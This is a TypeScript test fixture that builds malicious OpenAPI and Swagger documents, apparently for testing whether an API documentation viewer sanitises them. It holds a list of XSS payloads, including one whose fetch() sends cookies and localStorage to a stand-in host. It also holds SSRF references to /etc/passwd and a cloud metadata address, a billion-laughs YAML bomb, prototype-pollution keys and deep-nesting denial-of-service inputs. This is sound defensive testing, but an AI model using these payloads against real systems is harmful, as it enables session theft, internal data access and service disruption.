// Malicious API descriptions: each would run a script, call another host, read our data or navigate away if its
// content were treated as more than text.

/** The places of a description whose text the viewer shows. */
const places: Record<string, (text: string) => object> = {
  description: (text) => ({ description: text, responses: {} }),
  summary: (text) => ({ summary: text, operationId: text, tags: [text], responses: {} }),
  parameter: (text) => ({
    parameters: [
      {
        name: text,
        in: 'query',
        description: text,
        schema: { type: 'string', default: text, enum: [text, 'b'] },
      },
    ],
    responses: {},
  }),
  body: (text) => ({
    requestBody: {
      description: text,
      content: {
        'application/json': {
          schema: {
            type: 'object',
            title: text,
            properties: { [text]: { description: text, pattern: text.slice(0, 20) } },
          },
          example: { a: text },
        },
      },
    },
    responses: {},
  }),
  response: (text) => ({
    responses: {
      200: {
        description: text,
        headers: { [text]: { description: text } },
        content: { 'text/html': { schema: { type: 'string' }, example: text } },
        links: { [text]: { description: text, operationId: text } },
      },
    },
  }),
  docs: (text) => ({
    externalDocs: { url: text, description: text },
    servers: [{ url: text, description: text }],
    deprecated: true,
    responses: {},
  }),
  callbacks: (text) => ({
    callbacks: { [text]: { [text]: { post: { description: text, responses: {} } } } },
    'x-evil': text,
    responses: {},
  }),
};

const textsFor = (elsewhere: string): string[] => [
  '<script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  `<img src="${elsewhere}/pixel.png">`,
  '<svg onload=hacked()><animate onbegin=hacked() attributeName=x></svg>',
  `<svg><image href="${elsewhere}/s.png"/><use href="${elsewhere}/s.svg#x"/></svg>`,
  '<iframe srcdoc="<script>top.hacked()</script>"></iframe>',
  `<iframe src="${elsewhere}/frame"></iframe>`,
  '<a href="javascript:hacked()">press</a>',
  '[press](javascript:hacked())',
  '[press](JaVaScRiPt:hacked())',
  '[press](java\tscript:hacked())',
  '[press](&#106;avascript:hacked())',
  '[press](data:text/html,<script>hacked()</script>)',
  `[press](${elsewhere}/link)`,
  `<a href="${elsewhere}/top" target="_top">press</a>`,
  `![x](${elsewhere}/spy.png)`,
  `<form action="${elsewhere}/form" method="post"><input name=a value=b autofocus><button formaction="${elsewhere}/button">press</button></form>`,
  `<style>@import '${elsewhere}/x.css'; * { background: url(${elsewhere}/b.png) }</style>`,
  `<p style="background:url(${elsewhere}/style.png)">x</p>`,
  `<link rel=stylesheet href=${elsewhere}/x.css><link rel=prefetch href=${elsewhere}/p>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/meta">`,
  `<base href=${elsewhere}/>`,
  `<video src=${elsewhere}/v poster=${elsewhere}/p.png><audio src=${elsewhere}/a></video>`,
  `<object data=${elsewhere}/o><embed src=${elsewhere}/e></object>`,
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  `<script>fetch('${elsewhere}/?'+parent.document.cookie+parent.localStorage.marker+document.cookie)</script>`,
  '{{constructor.constructor("hacked()")()}}',
];

const whole = (document: object): string =>
  JSON.stringify({ openapi: '3.1.0', info: { title: 'x', version: '1' }, ...document });
const withSchema = (schema: object) =>
  whole({
    paths: {
      '/a': { get: { responses: { 200: { description: '', content: { 'application/json': { schema } } } } } },
    },
    components: { schemas: { A: schema } },
  });

/** Here the structure is malicious, not a text. */
function shapesFor(elsewhere: string): string[] {
  const paths = (item: object) => whole({ paths: { '/a': item } });
  const refs = [
    `${elsewhere}/a.yaml`,
    `//elsewhere.example/a`,
    'file:///etc/passwd',
    '../openapi.json',
    '/openapi.json',
    'http://169.254.169.254/latest',
    `data:application/json,{"get":{}}`,
    'javascript:hacked()',
  ];
  const laughs = [
    'a: &a [x, x, x, x, x, x, x, x, x]',
    ...'bcdefghi'
      .split('')
      .map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`).join()}]`),
  ].join('\n');
  return [
    ...refs.map(($ref) => paths({ $ref })),
    ...refs.slice(0, 3).map(($ref) => withSchema({ $ref })),
    ...refs
      .slice(0, 3)
      .map(($id) =>
        withSchema({ $id, $schema: $id, properties: { a: { $ref: '#/b' }, b: { $dynamicRef: `${$id}#x` } } }),
      ),
    whole({ jsonSchemaDialect: `${elsewhere}/dialect`, paths: { '/a': { get: { responses: {} } } } }),
    whole({
      paths: { '/a': { get: { responses: {}, security: [{ a: [] }] } } },
      components: {
        securitySchemes: {
          a: {
            type: 'oauth2',
            flows: {
              implicit: { authorizationUrl: `${elsewhere}/auth`, scopes: {} },
              authorizationCode: {
                authorizationUrl: 'javascript:hacked()',
                tokenUrl: `${elsewhere}/token`,
                scopes: {},
              },
            },
          },
        },
      },
    }),
    whole({
      paths: { '/a': { get: { responses: {} } } },
      url: `${elsewhere}/u`,
      urls: [{ url: `${elsewhere}/v` }],
      configUrl: `${elsewhere}/c`,
      oauth2RedirectUrl: `${elsewhere}/r`,
      validatorUrl: `${elsewhere}/w`,
    }),
    whole({
      servers: [{ url: elsewhere }],
      paths: { [`/?url=${elsewhere}/x&configUrl=${elsewhere}/y`]: { get: { responses: {} } } },
    }),
    `openapi: 3.1.0\n${laughs}`,
    `openapi: 3.1.0\npaths: ${'{a: '.repeat(5000)}`,
    `openapi: 3.1.0\nx: ${'['.repeat(200_000)}`,
    `{"openapi":"3.1.0","__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}},"paths":{"__proto__":{"get":{"responses":{}}},"/a":{"get":{"responses":{"__proto__":{"description":"x"}}}}}}`,
    'openapi: 3.1.0\npaths: !!js/function "function(){hacked()}"\n',
    'openapi: 3.1.0\n? { a: b }\n: c\n',
    withSchema({ enum: Array.from({ length: 20_000 }, (_, at) => `v${at}`) }),
    withSchema({ type: 'object', properties: { a: { $ref: '#/components/schemas/A' } } }),
    withSchema({ allOf: [{ $ref: '#/components/schemas/A' }, { $ref: '#/components/schemas/A' }] }),
    swagger2(elsewhere),
  ];
}

const swagger2 = (elsewhere: string) =>
  JSON.stringify({
    swagger: '2.0',
    host: new URL(elsewhere).host,
    schemes: ['http'],
    paths: {
      '/a': {
        get: {
          description: '<img src=x onerror=hacked()>',
          responses: {
            200: { description: '<script>hacked()</script>', schema: { $ref: `${elsewhere}/s.json` } },
          },
        },
      },
    },
  });

export function hostileDescriptions(elsewhere: string): string[] {
  const texts = textsFor(elsewhere).flatMap((text) =>
    Object.values(places).map((operation) =>
      whole({ paths: { '/a': { post: operation(text) }, [text]: { get: { responses: {} } } } }),
    ),
  );
  return [...texts, ...shapesFor(elsewhere)];
}
